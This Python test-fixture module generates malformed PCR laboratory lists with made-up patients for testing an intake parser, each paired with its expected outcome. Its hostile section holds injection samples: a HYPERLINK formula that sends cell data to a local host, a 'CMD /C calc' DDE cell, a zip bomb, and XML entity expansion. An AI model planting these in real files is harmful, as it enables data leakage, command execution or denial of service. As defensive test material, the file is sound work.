"""PCR lists as laboratories really send them: over twenty kinds of faults, each with what must come of it.

Everybody is made up: the IIN has month 00. `outcomes` are counted as the preview counts them; `refusal` is the code
of a file that cannot be read at all.
"""

from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import date
from functools import cache
from pathlib import Path

from medet.base.iin import made_up
from tests.records.intake.sheets import Day, Formula, csv_bytes, xlsx_bytes

RU = [
    "Фамилия",
    "Имя",
    "Отчество",
    "ИИН",
    "Дата рождения",
    "Пол",
    "Телефон",
    "Улица",
    "Дом",
    "Дата забора",
    "Результат",
]
KK = ["Тегі", "Аты", "Әкесінің аты", "ЖСН", "Туған күні", "Жынысы", "Телефон", "Көше", "Үй", "Алынған күні", "Нәтижесі"]
EN = [
    "Last name",
    "First name",
    "Patronymic",
    "IIN",
    "Date of birth",
    "Sex",
    "Phone",
    "Street",
    "House",
    "Sampled",
    "Result",
]
BORN = date(1959, 4, 12)
TAKEN_ON = "22.11.2026"


@dataclass(frozen=True)
class Faulty:
    """One given file."""

    name: str
    data: bytes
    outcomes: dict[str, int] = field(default_factory=dict)
    reasons: tuple[str, ...] = ()
    refusal: str = ""


def iin(number: int, *, born: date = BORN) -> str:
    """Of nobody."""
    return made_up(birth_date=born, sex="female", serial=number)


def iin_with_zeros(number: int) -> str:
    """Somebody born in 2000-2009: the number begins with a zero, and month 00 adds two more."""
    return iin(number, born=date(2002, 7, 31))


def good(number: int, **other: str) -> list[str]:
    """A row without faults in the order of RU."""
    row = {
        "family": "Серікбаева",
        "given": "Әсел",
        "patronymic": "Нұрланқызы",
        "iin": iin(number),
        "born": "12.04.1959",
        "sex": "ж",
        "phone": f"+7 701 {number // 10000 % 1000:03d} {number // 100 % 100:02d} {number % 100:02d}",
        "street": "Ақсай-4",
        "house": "12",
        "taken": TAKEN_ON,
        "result": "положительный",
    }
    return list((row | other).values())


def plain(number: int, **other: str) -> list[str]:
    """A row without Kazakh letters, for code pages that have none."""
    return good(
        number, **({"family": "Серикбаева", "given": "Асель", "patronymic": "Нурлановна", "street": "Аксай-4"} | other)
    )


@cache
def all_faulty() -> tuple[Faulty, ...]:
    """Every kind; made once, for one of them is large."""
    return tuple(_all())


def _all() -> Iterator[Faulty]:
    yield from _encodings()
    yield from _shapes()
    yield from _spoilt_numbers()
    yield from _values()
    yield from _hostile()


def _encodings() -> Iterator[Faulty]:
    two = {"new": 2}
    yield Faulty("windows-1251", csv_bytes([RU, plain(1), plain(2)], encoding="cp1251"), two)
    yield Faulty("kazakh-code-page", csv_bytes([KK, good(1), good(2)], encoding="kz1048"), two)
    yield Faulty("utf8-no-mark-commas", csv_bytes([KK, good(1), good(2)], mark=","), two)
    yield Faulty("utf8-with-mark", csv_bytes([RU, good(1), good(2)], encoding="utf-8-sig"), two)
    yield Faulty("utf16-tabs", csv_bytes([EN, good(1), good(2)], encoding="utf-16", mark="\t"), two)
    yield Faulty("utf16-big-end", b"\xfe\xff" + csv_bytes([RU, good(1), good(2)], encoding="utf-16-be"), two)
    yield Faulty("utf16-without-mark", csv_bytes([RU, good(1), good(2)], encoding="utf-16-le", mark="\t"), two)
    yield Faulty("old-mac-line-ends", csv_bytes([RU, good(1), good(2)], end="\r"), two)
    spoilt = csv_bytes([RU, good(1), good(2)]).replace("Әсел".encode(), "Әсел".encode()[:-1] + b"\xff", 1)
    yield Faulty("one-letter-lost", spoilt, {"new": 1, "bad": 1}, ("letters_lost",))


def _shapes() -> Iterator[Faulty]:
    title = [["Список положительных ПЦР за 22.11.2026"], [], ["Лаборатория № 1"]]
    yield Faulty("title-above", csv_bytes([*title, RU, good(1)]), {"new": 1})
    order = [3, 10, 0, 1, 2, 6, 9, 4, 5, 8, 7]
    mixed = [(RU, KK, EN)[place % 3][column].upper() + "\u00a0" for place, column in enumerate(order)]
    yield Faulty("headers-mixed-languages-any-order", csv_bytes([mixed, [good(1)[c] for c in order]]), {"new": 1})
    wide = [["", *RU, "", ""], ["", *good(1), "", ""], [""] * 14, ["", *good(2), "", ""], [""] * 14]
    yield Faulty("empty-rows-and-columns", xlsx_bytes(wide), {"new": 2})
    yield Faulty(
        "empty-first-sheet-and-hidden", xlsx_bytes([], [["x"]], [RU, good(1)], hidden=frozenset({2})), {"new": 1}
    )
    yield Faulty("wrong-dimension", xlsx_bytes([RU, good(1)], dimension="A1:XFD1048576"), {"new": 1})
    yield Faulty(
        "ragged-rows", csv_bytes([RU, [*good(1), "", "x"], good(2)[:5]]), {"new": 1, "bad": 1}, ("result_missing",)
    )
    stray = csv_bytes([RU, good(1), good(2)]).replace("Серікбаева".encode(), '"Серікбаева'.encode(), 1)
    yield Faulty("quote-never-closed", stray, {"new": 1, "bad": 1}, ("name_signs",))
    yield Faulty("line-break-in-a-cell", csv_bytes([RU, good(1, street="Ақсай-4\n2-қабат")]), {"new": 1})
    names = ["№", "ФИО", *RU[3:]]
    yield Faulty(
        "whole-name-in-one-cell", csv_bytes([names, ["1", "СЕРІКБАЕВА ӘСЕЛ НҰРЛАНҚЫЗЫ", *good(1)[3:]]]), {"new": 1}
    )
    yield Faulty("separator-named", b"sep=,\r\n" + csv_bytes([RU, good(1)], mark=","), {"new": 1})


def _spoilt_numbers() -> Iterator[Faulty]:
    short = iin_with_zeros(7).lstrip("0")
    born = "31.07.2002"
    yield Faulty("leading-zeros-lost", csv_bytes([RU, good(7, iin=short, born=born)]), {"new": 1})
    as_number = [*good(7, born=born)[:3], float(int(iin_with_zeros(7))), *good(7, born=born)[4:]]
    yield Faulty("iin-as-excel-number", xlsx_bytes([RU, as_number]), {"new": 1})
    yield Faulty(
        "iin-rounded-away", csv_bytes([RU, good(1, iin="5,90012E+11"), good(2)]), {"new": 1, "bad": 1}, ("iin_rounded",)
    )
    yield Faulty("iin-with-point-zero", csv_bytes([RU, good(1, iin=iin(1) + ".0")]), {"new": 1})
    days = [*good(1)[:4], Day(21652), *good(1)[5:9], Day(46348.4), "обнаружено"]
    yield Faulty("days-as-excel-numbers", xlsx_bytes([RU, days]), {"new": 1})
    early = [*good(1)[:4], Day(21652 - 1462), *good(1)[5:9], Day(46348 - 1462), "оң"]
    yield Faulty("days-counted-from-1904", xlsx_bytes([RU, early], epoch_1904=True), {"new": 1})
    yield Faulty("days-as-numbers-in-text", csv_bytes([RU, good(1, born="21652", taken="46348")]), {"new": 1})
    forms = ("12/04/1959", "1959-04-12", "12 апреля 1959 г.", "1959 ж. 12 сәуір", "12-04-1959 00:00:00", "12.4.1959")
    rows = [good(number, born=form) for number, form in enumerate(forms, 1)]
    yield Faulty("days-in-many-forms", csv_bytes([RU, *rows]), {"new": len(forms)})
    yield Faulty(
        "day-unclear",
        csv_bytes([RU, good(1, born="04/13/1959"), good(2, born="12.04.20")]),
        {"bad": 2},
        ("date_unclear", "year_short"),
    )
    phone = [*good(1)[:6], 77010000001.0, *good(1)[7:]]
    yield Faulty(
        "phone-as-number-and-two-in-a-cell",
        xlsx_bytes([RU, phone, good(2, phone="8 701 000 00 02; 87010000003")]),
        {"new": 2},
    )


def _values() -> Iterator[Faulty]:
    wrong = iin(1)[:-1] + str((int(iin(1)[-1]) + 1) % 10)
    yield Faulty(
        "iin-mistyped", csv_bytes([RU, good(1, iin=wrong), good(2)]), {"new": 1, "bad": 1}, ("iin.check_digit",)
    )
    yield Faulty("name-missing", csv_bytes([RU, good(1, family=""), good(2)]), {"new": 1, "bad": 1}, ("name_missing",))
    yield Faulty("nobody-to-tell", csv_bytes([RU, good(1, iin="", born="")]), {"bad": 1}, ("identity_missing",))
    future = [good(1, born="12.04.2059"), good(2, taken="22.11.2036")]
    yield Faulty("days-to-come", csv_bytes([RU, *future]), {"bad": 2}, ("date_future",))
    yield Faulty("same-person-twice", csv_bytes([RU, good(1), good(1)]), {"new": 1, "known": 1})
    results = [
        good(1, result="отрицательный"),
        good(2, result="не обнаружено"),
        good(3, result="теріс"),
        good(4, result="?"),
    ]
    yield Faulty("negative-and-unclear", csv_bytes([RU, *results]), {"negative": 3, "bad": 1}, ("result_unknown",))
    foreign = [*RU, "Номер документа"]
    row = [*good(1, iin="", family="Doe", given="John", patronymic=""), "AB 1234567"]
    yield Faulty("foreigner-without-iin", csv_bytes([foreign, row]), {"new": 1})
    yield Faulty("no-known-header", csv_bytes([["a", "b"], ["Серікбаева", "Әсел"]]), {"bad": 2}, ("name_missing",))


def _hostile() -> Iterator[Faulty]:
    formula = '=HYPERLINK("http://127.0.0.1/?"&A1;"x")'
    yield Faulty(
        "formula-in-text", csv_bytes([RU, good(1, family=formula), good(2)]), {"new": 1, "bad": 1}, ("name_signs",)
    )
    cell = [Formula('CMD|" /C calc"!A0'), *good(1)[1:]]
    yield Faulty("formula-in-a-cell", xlsx_bytes([RU, cell]), {"bad": 1}, ("name_missing",))
    yield Faulty(
        "zip-bomb", xlsx_bytes([RU, good(1)], more={"xl/media/a.xml": b"0" * 200_000_000}), refusal="list.bomb"
    )
    entity = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "aaaaaaaaaa"><!ENTITY y "&x;&x;&x;&x;">]>'
    yield Faulty("entities", xlsx_bytes([RU, good(1)], head=entity), refusal="list.broken")
    yield Faulty("old-xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, refusal="list.old_excel")
    yield Faulty(
        "page-called-xls", "<html><table><tr><td>ИИН</td></tr></table></html>".encode(), refusal="list.not_a_list"
    )
    yield Faulty("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", refusal="list.not_a_list")
    yield Faulty("program", b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 20, refusal="list.not_a_list")
    yield Faulty("archive-of-something-else", _archive(), refusal="list.broken")
    yield Faulty("cut-short", xlsx_bytes([RU, good(1)])[:-200], refusal="list.broken")
    yield Faulty("empty", b"", refusal="list.empty")
    yield Faulty("header-only", csv_bytes([RU]), refusal="list.empty")


def _archive() -> bytes:
    made = xlsx_bytes([RU])
    return made.replace(b"workbook", b"wirkbook")


def write_all(folder: Path) -> None:
    """For eyes: the same files on a disk."""
    for faulty in all_faulty():
        ending = "xlsx" if faulty.data.startswith(b"PK") else "csv"
        (folder / f"{faulty.name}.{ending}").write_bytes(faulty.data)
